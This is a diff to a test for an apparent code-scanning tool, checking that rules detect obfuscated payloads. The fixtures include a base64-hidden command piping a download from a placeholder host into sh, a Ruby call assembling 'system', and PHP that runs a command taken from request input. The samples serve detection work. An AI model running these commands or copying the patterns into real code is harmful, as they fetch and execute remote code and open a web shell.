@@ -110,11 +110,16 @@ def test_folded_payload_reaches_the_rules():
     from codescan.records import Document
     from codescan.rules import load_rules
 
-    analyzer = Analyzer(load_rules().select(("sh-download-exec", "php-command-from-request-input"), ()),
+    analyzer = Analyzer(load_rules().select(("sh-download-exec", "rb-send-dangerous-method",
+                                             "command-from-request-input"), ()),
                         Config(honour_suppressions=False))
     shell = f'eval "$(echo {b64("curl -s http://x.example/i | sh")} | base64 -d)"\n'.encode()
+    ruby = b'm = "sys" + "tem"\nKernel.send("sys" + "tem", x)\n'
     php = b"<?php\n$f = 'sys'.'tem';\n$f($_GET['c']);\n"
-    found = {(f.rule_id, f.line, f.context) for doc in (Document("a.sh", shell), Document("a.php", php))
+    found = {(f.rule_id, f.line, f.context) for doc in (Document("a.sh", shell), Document("a.rb", ruby),
+                                                        Document("a.php", php))
              for f in analyzer.analyze(doc).findings}
     assert ("sh-download-exec", 1, "folded") in found
-    assert ("php-command-from-request-input", 3, "folded") in found
+    assert ("rb-send-dangerous-method", 2, "folded") in found
+    # the fact rule names the function the variable holds (the same value the folded view writes)
+    assert ("command-from-request-input", 3, "code") in found
